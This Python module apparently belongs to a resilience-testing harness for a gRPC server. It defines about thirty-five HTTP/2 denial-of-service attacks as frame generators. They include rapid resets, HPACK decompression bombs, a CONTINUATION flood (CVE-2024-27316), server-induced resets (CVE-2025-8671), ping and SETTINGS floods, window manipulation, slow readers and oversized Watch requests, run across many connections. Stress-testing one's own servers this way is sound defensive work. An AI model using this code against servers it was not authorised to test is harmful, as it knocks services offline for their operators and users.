"""The attacks that attackers.py carries out, by name: ATTACKS. Each is a generator of what a connection sends."""

import struct
import time

import numpy as np

from attackers import SOURCE, Attack
from http2 import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SERVICE, SETTINGS, WINDOW_UPDATE, Peer, frame,
    integer, literal, message, request_headers, settings,
)

CANCEL = struct.pack(">I", 8)
WATCH, UNKNOWN = "/grpc.health.v1.Health/Watch", "/no.Such/Method"
# DynamicQuantizeRequest: x = {data_type: FLOAT, shape: [2], raw_data: 8 bytes}
SMALL = bytes.fromhex("0a0f 0801 120102 1a08") + struct.pack("<2f", 1, 2)


# ---- Heads of calls. A call's block is as short as HPACK can make it: the first one fills the table, the others refer to it.


def indexed(name, value, table_index=None):
    """A field that is added to the table."""
    first = b"\x40" + integer(len(name), 7) + name.encode() if table_index is None else integer(table_index, 6, 0x40)
    return first + integer(len(value), 7) + value.encode()


def first_of(path=SERVICE + "DynamicQuantize", content_type="application/grpc", last=b""):
    pseudo = b"\x83\x86" + indexed(":path", path, 4) + indexed(":authority", "a", 1)
    return pseudo + indexed("content-type", content_type, 31) + indexed("te", "trailers") + last


FIRST = first_of()
AGAIN = b"\x83\x86" + b"\xc1\xc0\xbf\xbe"  # newest last: te is 62, content-type 63, :authority 64, :path 65


class Repeated:
    """A piece of frames that is sent repeatedly, each time with later streams."""

    def __init__(self, unit, count):
        """`unit`: makes the frames of a stream."""
        piece = b"".join(unit(2 * i + 1) for i in range(count))
        self.bytes, self.last, heads, at = np.frombuffer(bytearray(piece), np.uint8), 2 * count, [], 0
        while at < len(piece):
            heads.append(at + 5)
            at += 9 + int.from_bytes(piece[at : at + 3], "big")
        self.places = np.array(heads)[:, None] + np.arange(4)
        self.streams = self.bytes[self.places].copy().view(">u4").astype(np.int64)
        self.places, self.streams = self.places[self.streams[:, 0] != 0], self.streams[self.streams[:, 0] != 0]

    def of(self, first):
        """The bytes, with `first` instead of stream 1."""
        later = (self.streams + (first - 1)).astype(">u4")
        self.bytes[self.places] = later.view(np.uint8)
        return self.bytes.tobytes()


def calls(sender, body, first=FIRST, flags=END_HEADERS, at_a_time=50, reset_later=False, again=AGAIN):
    """Calls without end: the head, and the frames that `body` makes for a stream. `reset_later`: the next piece resets them."""
    stream = sender.next_stream()
    yield frame(HEADERS, flags, stream, first) + body(stream)
    piece = Repeated(lambda stream: frame(HEADERS, flags, stream, again) + body(stream), at_a_time)
    resets = Repeated(reset, at_a_time)
    while True:
        begin = sender.stream + 2
        sender.stream += 2 * at_a_time
        yield piece.of(begin)
        if reset_later:
            yield resets.of(begin)


def whole(stream, payload=SMALL):
    return frame(DATA, END_STREAM, stream, message(payload))


def reset(stream):
    return frame(RST_STREAM, 0, stream, CANCEL)


# ---- Responses that nobody reads


def resets(sender):
    return calls(sender, whole, at_a_time=90, reset_later=True)


def answers(sender):
    return calls(sender, whole)


def refused_paths(sender):
    return calls(sender, lambda stream: b"", first_of(UNKNOWN), at_a_time=90, reset_later=True)


def refused_long_paths(sender):
    """Each byte of the path takes three in the status text, and one byte of HPACK refers to all of it."""
    return calls(sender, lambda stream: b"", first_of("/" + "%" * 3600), at_a_time=90, reset_later=True)


def refused_types(sender):
    return calls(sender, lambda stream: b"", first_of(SERVICE + "Quantize", "text/plain"), at_a_time=90, reset_later=True)


def refused_streams(sender):
    """More streams than may be open: each further one is reset."""
    return calls(sender, lambda stream: b"")


def refused_encodings(sender):
    return calls(sender, whole, first_of(last=indexed("grpc-encoding", "zstd")), again=b"\x83\x86\xc2\xc1\xc0\xbf\xbe")


def pings(sender):
    while True:
        yield frame(PING, 0, 0, b"12345678") * 500


def settings_frames(sender):
    while True:
        yield frame(SETTINGS, 0, 0, settings(window=65535)) * 500


# ---- Heads that cost more than their size


def bombs(sender):
    """One entry of the table, with a reference of one byte each: 4 KiB become 16 MiB."""
    value = b"y" * 3968
    entry = b"\x40\x01x" + integer(len(value), 7) + value
    while True:
        yield frame(HEADERS, END_HEADERS, sender.next_stream(), request_headers() + entry + b"\xbe" * 4000)


def split_bombs(sender):
    """The same in CONTINUATION frames, as many as are allowed."""
    entry = b"\x40\x01x" + integer(3968, 7) + b"y" * 3968
    while True:
        stream = sender.next_stream()
        parts = [frame(CONTINUATION, END_HEADERS if i == 6 else 0, stream, b"\xbe" * 16000) for i in range(7)]
        yield frame(HEADERS, 0, stream, request_headers() + entry) + b"".join(parts)


def continuations(sender):
    """CVE-2024-27316: a block that does not end, with one byte or none in each frame."""
    yield frame(HEADERS, 0, sender.next_stream(), request_headers())
    while True:
        yield frame(CONTINUATION, 0, sender.stream) * 200


def unfinished_blocks(sender):
    """As much of a block as is kept, and nothing more of it."""
    yield frame(HEADERS, 0, sender.next_stream(), request_headers() + literal("a", "b" * 15000))
    for _ in range(6):
        yield frame(CONTINUATION, 0, sender.stream, literal("a", "b" * 10000))


def churn(sender):
    """Every field is new, so that each pushes others out of the table, whose size changes to 0 and back with every block."""
    number = 0
    while True:
        fields = []
        for _ in range(100):
            number += 1
            fields.append(indexed(f"x{number:x}", "y" * 8))
        block = b"\x20" + integer(4096, 5, 0x20) + request_headers() + b"".join(fields)
        stream = sender.next_stream()
        yield frame(HEADERS, END_HEADERS, stream, block) + reset(stream)


def table_sizes(sender):
    """SETTINGS that make the server's own table small and large again, and calls whose answers use it in between."""
    block = FIRST
    while True:
        out = []
        for size in (0, 4096) * 10:
            stream = sender.next_stream()
            out.append(frame(SETTINGS, 0, 0, struct.pack(">HI", 1, size)) + frame(HEADERS, END_HEADERS, stream, block) + whole(stream))
            block = AGAIN
        yield b"".join(out)


# ---- The peer makes the server reset (CVE-2025-8671)


def made_by_window(sender):
    return calls(sender, lambda stream: whole(stream) + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", (1 << 31) - 1)))


def made_by_data(sender):
    return calls(sender, lambda stream: whole(stream) + frame(DATA, 0, stream, b"x"))


def made_by_headers(sender):
    return calls(sender, lambda stream: whole(stream) + frame(HEADERS, END_HEADERS | END_STREAM, stream, b"\x00\x01a\x01b"))


def made_by_length(sender):
    """The message is longer than content-length says."""
    return calls(sender, whole, first_of(last=indexed("content-length", "3")), again=b"\x83\x86\xc2\xc1\xc0\xbf\xbe")


def made_by_field(sender):
    """A trailer that HTTP/2 forbids."""
    return calls(sender, lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, b"\x00\x01A\x01b"))


# ---- Windows, priorities, crumbs


def windows_below_zero(sender):
    """Answers are in flight when all streams' windows shrink by more than what is left of them, and grow again."""
    big = request_of(64 << 10)
    block = FIRST
    while True:
        out = []
        for _ in range(20):
            stream = sender.next_stream()
            out.append(frame(HEADERS, END_HEADERS, stream, block) + b"".join(in_frames(stream, big)))
            block = AGAIN
        for size in (0, 9000, 0, 65535, 1, 0, 65535) * 20:  # costs more than what the answered requests earn
            out.append(frame(SETTINGS, 0, 0, settings(window=size)))
        out += [reset(stream) for stream in range(sender.stream - 38, sender.stream + 2, 2)]
        yield b"".join(out)


def priority_frames(sender):
    """Streams that depend on one another in a chain, which is reversed again and again."""
    yield b"".join(frame(HEADERS, END_HEADERS, sender.next_stream(), FIRST if i == 0 else AGAIN) for i in range(90))
    while True:
        up = [frame(PRIORITY, 0, s, struct.pack(">IB", s - 2 | 1 << 31, 255)) for s in range(3, 181, 2)]
        down = [frame(PRIORITY, 0, s, struct.pack(">IB", s + 2 | 1 << 31, 1)) for s in range(1, 179, 2)]
        yield b"".join(up + down)


def priority_updates(sender):
    """RFC 9218's frame, for streams that exist and for others."""
    number = 0
    while True:
        number = number % 100_000 + 1
        yield b"".join(frame(16, 0, 0, struct.pack(">I", 2 * i + 1) + b"u=7, i") for i in range(number, number + 300))


def ping_bytes(sender):
    """Every byte in a packet of its own (see `step`)."""
    return pings(sender)


# ---- Calls that occupy their place (others: test_places.py)


def watches(sender):
    streams = [sender.next_stream() for _ in range(100)]
    yield b"".join(frame(HEADERS, END_HEADERS, s, first_of(WATCH) if s == 1 else AGAIN) + whole(s, b"") for s in streams)


def request_of(size):
    """A DynamicQuantizeRequest of `size` bytes of FLOAT."""

    shape = varint(size // 4)
    tensor = b"\x08\x01\x12" + varint(len(shape)) + shape + b"\x1a" + varint(size) + bytes(size)
    return b"\x0a" + varint(len(tensor)) + tensor


def varint(value):
    out = []
    while value >= 128:
        out.append(value & 127 | 128)
        value >>= 7
    return bytes([*out, value])


def in_frames(stream, payload):
    data = message(payload)
    pieces = [data[at : at + 16384] for at in range(0, len(data), 16384)]
    return [frame(DATA, END_STREAM if piece is pieces[-1] else 0, stream, piece) for piece in pieces]


def slow_reader(address, end):
    """Requests an answer of 4 MiB, and reads 1 KiB a second of it."""
    with Peer(address, source=SOURCE, receive_buffer=4096, window=(1 << 31) - 1) as peer:
        peer.upload(request_of(16 << 20))
        while (left := end - time.monotonic()) > 0:
            if not peer.socket.recv(1024):
                return
            time.sleep(min(1, left))


def large_watches(address, end):
    """Ten Watches of a service with a name of 60 MiB: Watch needs no token."""
    with Peer(address, source=SOURCE) as peer:
        name = message(b"\x0a" + varint(60 << 20) + b"a" * (60 << 20))
        for _ in range(10):
            stream = peer.next_stream()
            peer.send(frame(HEADERS, END_HEADERS, stream, request_headers(path=WATCH)))
            peer.upload_on(stream, name)
        time.sleep(max(0, end - time.monotonic()))


ATTACKS = {
    "resets_unread": Attack(resets),
    "answers_unread": Attack(answers),
    "refused_paths_unread": Attack(refused_paths),
    "refused_long_paths_unread": Attack(refused_long_paths),
    "refused_types_unread": Attack(refused_types),
    "refused_streams_unread": Attack(refused_streams),
    "refused_encodings_unread": Attack(refused_encodings),
    "pings_unread": Attack(pings),
    "settings_unread": Attack(settings_frames),
    "resets_unread_16": Attack(resets, connections=16),
    "refused_paths_unread_16": Attack(refused_paths, connections=16),
    "bombs_16": Attack(bombs, connections=16),
    "bombs_100": Attack(bombs, connections=100),
    "split_bombs_100": Attack(split_bombs, connections=100),
    "continuations_16": Attack(continuations, connections=16, reads=True),
    "unfinished_blocks_100": Attack(unfinished_blocks, connections=100),
    "churn_16": Attack(churn, connections=16, reads=True),
    "table_sizes_16": Attack(table_sizes, connections=16, reads=True),
    "made_by_window_16": Attack(made_by_window, connections=16, reads=True),
    "made_by_data_16": Attack(made_by_data, connections=16, reads=True),
    "made_by_headers_16": Attack(made_by_headers, connections=16, reads=True),
    "made_by_length_16": Attack(made_by_length, connections=16, reads=True),
    "made_by_field_16": Attack(made_by_field, connections=16, reads=True),
    "made_by_window_unread": Attack(made_by_window),
    "made_by_data_unread": Attack(made_by_data),
    "made_by_length_unread": Attack(made_by_length),
    "windows_below_zero_16": Attack(windows_below_zero, connections=16, reads=True),
    "windows_below_zero_unread": Attack(windows_below_zero, connections=4),
    "priority_frames_16": Attack(priority_frames, connections=16, reads=True),
    "priority_updates_16": Attack(priority_updates, connections=16, reads=True),
    "ping_bytes_16": Attack(ping_bytes, connections=16, reads=True, step=1),
    "ping_bytes_unread": Attack(ping_bytes, step=1),
    "watches_36": Attack(watches, connections=36, reads=True),
    "large_watches_4": Attack(None, connections=4, threads=large_watches),
    "slow_readers_64": Attack(None, connections=64, threads=slow_reader),
}
